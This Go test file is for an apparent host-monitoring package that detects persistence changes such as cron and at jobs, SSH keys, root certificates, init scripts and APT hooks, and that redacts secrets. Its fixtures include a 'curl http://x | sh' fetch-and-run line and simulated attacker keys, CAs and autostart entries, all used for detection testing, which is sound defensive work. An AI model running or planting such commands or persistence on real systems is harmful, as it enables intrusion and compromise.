// SPDX-License-Identifier: Apache-2.0

package persist

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"math/big"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

func TestParseCron(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		line, owner string
		anacron     bool
		want        cronTask
		ok          bool
	}{
		{"*/5 * * * * root /bin/x -a", "", false, cronTask{"*/5 * * * *", "root", "/bin/x -a"}, true},
		{"0\t4 1,15 * 5   /bin/x  y", "alice", false, cronTask{"0 4 1,15 * 5", "alice", "/bin/x  y"}, true},
		{"@reboot root /bin/x", "", false, cronTask{"@reboot", "root", "/bin/x"}, true},
		{"@daily /bin/x", "alice", false, cronTask{"@daily", "alice", "/bin/x"}, true},
		{"7 25 cron.weekly run-parts /etc/cron.weekly", "", true, cronTask{"7 25 cron.weekly", "root", "run-parts /etc/cron.weekly"}, true},
		{"# 5 * * * * root x", "", false, cronTask{}, false},
		{"MAILTO=root a b c d e", "", false, cronTask{}, false},
		{"SHELL = /bin/sh and so on here", "", false, cronTask{}, false},
		{"5 * * * *", "alice", false, cronTask{}, false},
		{"5 * * * * root", "", false, cronTask{}, false},
		{"", "", false, cronTask{}, false},
	} {
		got, ok := parseCron(c.line, c.owner, c.anacron)
		if ok != c.ok || got != c.want {
			t.Errorf("%q: %+v %v", c.line, got, ok)
		}
	}
}

const atJob = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\nAWS_SECRET_ACCESS_KEY=abcdef; export AWS_SECRET_ACCESS_KEY\nHOME=/home/alice; export HOME\n" +
	"cd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER1a2b3c4d'\ncurl http://x | sh\nexit 1\nmarcinDELIMITER1a2b3c4d\n"

func TestAtJob(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	e := w.want(w.wrote(Created, "/var/spool/cron/atjobs/a0000101b3c2d4", atJob), "ScheduledTaskCreated /var/spool/cron/atjobs/a0000101b3c2d4 alice")[0]
	w.field(e, "Commands", []string{"curl http://x | sh", "exit 1"})
	w.field(e, "Schedule", "2024-04-18T23:16:00Z")
	w.field(e, "UserId", "1000")
	if s := toText(e); strings.Contains(s, "AWS_SECRET") {
		t.Errorf("the environment is told: %s", s)
	}
}

func TestRedact(t *testing.T) {
	t.Parallel()
	tr := NewTracker(nil, 0, hide(t))
	for in, want := range map[string]string{
		"export DB_PASSWORD='very secret'":                         "export DB_PASSWORD='[redacted]'",
		"token: abc.def":                                           "token: [redacted]",
		`"apiKey": "abc",`:                                         `"apiKey": "[redacted]",`,
		"mysql --password=x -u root":                               "mysql --password=[redacted] -u root",
		"tool --token abc":                                         "tool --token [redacted]",
		"curl https://u:p@host/x":                                  "curl https://u:[redacted]@host/x",
		"curl -H 'Authorization: Bearer abc'":                      "curl -H 'Authorization: Bearer [redacted]'",
		"root:$6$abcdefgh$ijklmnop:1":                              "root:[redacted]:1",
		"export KEY=AKIAABCDEFGHIJKLMNOP":                          "export KEY=[redacted]",
		"-----BEGIN OPENSSH PRIVATE KEY-----":                      "[redacted]",
		`{"auths":{"x":{"auth":"YWJjOmRlZg=="}}}`:                  `{"auths":{"x":{"auth":"[redacted]"}}}`,
		"  wpa-psk hunter2":                                        "  wpa-psk [redacted]",
		"mysqldump -u root -phunter2 db":                           "mysqldump -u root -p[redacted] db",
		"sshpass -p hunter2 ssh host":                              "sshpass -p [redacted] ssh host",
		"MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7":     "[redacted]",
		"/usr/lib/systemd/system/some-very-long-name-of-a-library": "/usr/lib/systemd/system/some-very-long-name-of-a-library",
		"  bindpw hunter2":                                         "  bindpw [redacted]",
		"requirepass hunter2":                                      "requirepass [redacted]",
		"PasswordAuthentication yes":                               "PasswordAuthentication yes",
		"ExecStart=/bin/x -c /etc/x":                               "ExecStart=/bin/x -c /etc/x",
		"*/5 * * * * root /usr/bin/rsync a:/b /c":                  "*/5 * * * * root /usr/bin/rsync a:/b /c",
		"password required pam_unix.so nullok":                     "password required pam_unix.so nullok",
	} {
		if got := tr.redact(in); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

// ed25519 public keys made by ssh-keygen, with the fingerprint that it shows.
const (
	keyLine = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ2v5l6mXv0aXo1rUq3r6f8sV2Q0mE8iPz5tGm2j7n3k"
	keySum  = "SHA256:"
)

func TestKeys(t *testing.T) {
	t.Parallel()
	const name = "/home/alice/.ssh/authorized_keys"
	w := newWorld(t, name, "# mine\n"+keyLine+" alice@laptop\n")
	e := w.want(w.wrote(Modified, name, "# mine\n"+keyLine+" alice@laptop\n"+`command="echo \"a b\"",no-pty `+strings.Replace(keyLine, "AAAAIJ2v", "AAAAIJ2x", 1)+" evil key\nbroken line\n"),
		"SshAuthorizedKeysModified "+name+" alice")[0]
	keys, _ := e.Fields["Keys"].([]sshKey)
	if len(keys) != 1 || keys[0].Type != "ssh-ed25519" || keys[0].Comment != "evil key" || keys[0].Options != `command="echo \"a b\"",no-pty` || !strings.HasPrefix(keys[0].Fingerprint, keySum) || len(keys[0].Fingerprint) != 50 {
		t.Errorf("keys %+v", keys)
	}
	if added, _ := e.Fields["Added"].([]string); len(added) != 2 || strings.Contains(added[0], "AAAAC3") {
		t.Errorf("added %q", added)
	}
	for _, bad := range []string{"", "#", "ssh-ed25519", "ssh-ed25519 !!!", `"`, `command="x`, "ssh-rsa AAAA"} {
		if k, ok := parseKey(bad); ok {
			t.Errorf("%q is %+v", bad, k)
		}
	}
}

func newCert(t *testing.T, name string) []byte {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	c := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name}, IsCA: true, BasicConstraintsValid: true}
	der, err := x509.CreateCertificate(rand.Reader, c, c, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return der
}

func TestCertificates(t *testing.T) {
	t.Parallel()
	encode := func(der []byte) string {
		return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
	}
	a, b := newCert(t, "Good CA"), newCert(t, "Evil CA")
	const bundle = "/etc/ssl/certs/ca-certificates.crt"
	w := newWorld(t, bundle, encode(a))
	e := w.want(w.wrote(Created, "/usr/local/share/ca-certificates/evil.crt", "text\n"+encode(b)), "RootCertificateInstalled /usr/local/share/ca-certificates/evil.crt")[0]
	w.field(e, "Subject", "CN=Evil CA")
	w.field(e, "SelfSigned", true)
	w.want(w.wrote(Modified, bundle, encode(a)+encode(b)), "RootCertificateInstalled "+bundle)
	w.want(w.wrote(Modified, bundle, "# comment\n"+encode(a)+encode(b)))
	e = w.want(w.wrote(Modified, bundle, encode(b)), "RootCertificateRemoved "+bundle)[0]
	w.field(e, "Subject", "CN=Good CA")
	w.want(w.wrote(Created, "/usr/local/share/ca-certificates/der.crt", string(a)), "RootCertificateInstalled /usr/local/share/ca-certificates/der.crt")
	w.want(w.wrote(Created, "/usr/local/share/ca-certificates/odd.crt", encode([]byte("nonsense"))), "RootCertificateInstalled /usr/local/share/ca-certificates/odd.crt")
	w.want(w.removed("/usr/local/share/ca-certificates/evil.crt"), "RootCertificateRemoved /usr/local/share/ca-certificates/evil.crt")
}

const status = "Package: a\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0-1\nDescription: x\n text: y\n\n" +
	"Package: b\nStatus: install ok installed\nArchitecture: all\nVersion: 2:3\n\nPackage: c\nStatus: deinstall ok config-files\nArchitecture: all\nVersion: 1\n"

func TestPackages(t *testing.T) {
	t.Parallel()
	const name = "/var/lib/dpkg/status"
	w := newWorld(t, name, status)
	w.write(name+"-new", strings.Replace(strings.Replace(status, "1.0-1", "1.0-2", 1), "deinstall ok config-files", "install ok installed", 1))
	events := w.want(w.moved(name+"-new", name), "PackageUpgraded "+name, "PackageInstalled "+name)
	w.field(events[0], "PackageName", "a")
	w.field(events[0], "PreviousVersion", "1.0-1")
	w.field(events[0], "PackageManager", "dpkg")
	w.field(events[1], "PackageName", "c")
	e := w.want(w.wrote(Modified, name, strings.Split(status, "\n\n")[0]+"\n"), "PackageUpgraded "+name, "PackageRemoved "+name, "PackageRemoved "+name)[1]
	w.field(e, "PackageName", "b")
	w.field(e, "PackageVersion", "2:3")
	w.want(w.removed(name), "PackageDatabaseModified "+name)
	w.want(w.wrote(Created, "/var/lib/pacman/local/zlib-ng-2.1-3/desc", "x"), "PackageInstalled /var/lib/pacman/local/zlib-ng-2.1-3/desc")
	e = w.want(w.wrote(Created, "/var/lib/snapd/snaps/code_12.snap", "x"), "PackageInstalled /var/lib/snapd/snaps/code_12.snap")[0]
	w.field(e, "PackageName", "code")
	w.field(e, "PackageVersion", "12")
	if diff := cmp.Diff([]string{"musl:x86_64 1.2.3-r4"}, apkLines("", []byte("C:Q1x\nP:musl\nV:1.2.3-r4\nA:x86_64\n\n"))); diff != "" {
		t.Error(diff)
	}
}

func TestDetails(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	e := w.want(w.wrote(Created, "/etc/init.d/evil", "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: evil\n# Default-Start: 2 3\n"), "ServiceInstalled /etc/init.d/evil")[0]
	w.field(e, "Provides", "evil")
	w.field(e, "Default-Start", "2 3")
	e = w.want(w.wrote(Created, "/home/alice/.config/autostart/x.desktop", "[Desktop Entry]\nName=X\nExec=/tmp/x\n"), "XdgAutostartModified /home/alice/.config/autostart/x.desktop alice")[0]
	w.field(e, "Exec", "/tmp/x")
	e = w.want(w.wrote(Created, "/etc/apt/apt.conf.d/99x", "// c\nAPT::Update::Pre-Invoke {\"/tmp/x\";};\n"), "PackageManagerConfigModified /etc/apt/apt.conf.d/99x")[0]
	w.field(e, "Commands", []string{`APT::Update::Pre-Invoke {"/tmp/x";};`})
	e = w.want(w.wrote(Created, "/etc/cron.daily/x", "#!/bin/sh\n"), "ScheduledTaskCreated /etc/cron.daily/x")[0]
	w.field(e, "Tasks", []cronTask{{"@daily", "root", "/etc/cron.daily/x"}})
	e = w.want(w.wrote(Created, "/home/alice/.mozilla/firefox/p/extensions/u@x.xpi", "PK"), "BrowserExtensionInstalled /home/alice/.mozilla/firefox/p/extensions/u@x.xpi alice")[0]
	w.field(e, "ExtensionId", "u@x")
	w.field(e, "Browser", "Firefox")
	got := (&finding{t: w.Tracker, data: []byte("[Service]\nExecStart=/bin/a \\\n  b \\\n  c\nExecStart=/bin/d\n#ExecStop=/x\nOther=1\n")}).settings(unitKeys)
	if diff := cmp.Diff(map[string]any{"ExecStart": []string{"/bin/a b c", "/bin/d"}}, got); diff != "" {
		t.Error(diff)
	}
}

func TestRemoteMounts(t *testing.T) {
	t.Parallel()
	got := remoteMounts([]byte("none / 9p rw 0 0\nh:/x /mnt/my\\040nfs nfs4 rw 0 0\nsshfs /s fuse.sshfs rw 0 0\n/dev/a /home ext4 rw 0 0\nshort\nauto /net autofs rw 0 0\n"))
	if diff := cmp.Diff([]string{"/mnt/my nfs", "/s", "/net"}, got); diff != "" {
		t.Error(diff)
	}
	tree := &HostTree{remote: got}
	if _, err := tree.Look("/s/x"); err == nil || gone(err) {
		t.Errorf("a file of another host is looked at: %v", err)
	}
}

// FuzzContent feeds any text to all that reads files.
func FuzzContent(f *testing.F) {
	for _, s := range []string{passwd, atJob, status, keyLine, "*/5 * * * * root x", `{"name":1}`, "\\\n\\\n=\n", "$6$a$bbbbbbbbbbbbb"} {
		f.Add([]byte(s), []byte(s+"x"))
	}
	tr := NewTracker(nil, 0, hide(f))
	f.Fuzz(func(t *testing.T, before, now []byte) {
		for i := range tr.table {
			w := &tr.table[i]
			name := strings.NewReplacer("/**/", "/", "~/", "/home/u/", ".../", "/srv/").Replace(expand(w.Paths[0])[0])
			look := &finding{t: tr, w: w, c: &Change{Op: Modified, Path: name, Space: "x"}, path: name, base: name[strings.LastIndexByte(name, '/')+1:], data: before, now: &Info{Kind: Regular}}
			look.prev = tr.stateOf(look)
			look.data, look.known = now, true
			s := tr.stateOf(look)
			look.added, look.removed = difference(look.prev.list(), s.list())
			for _, e := range tr.tell(look, s) {
				if added, _ := e.Fields["Added"].([]string); len(added) > tellItems {
					t.Errorf("%d items", len(added))
				}
			}
			for _, item := range s.list() {
				if !utf8.ValidString(item) {
					t.Errorf("%s: %q is no text", w.Category, item)
				}
			}
		}
	})
}
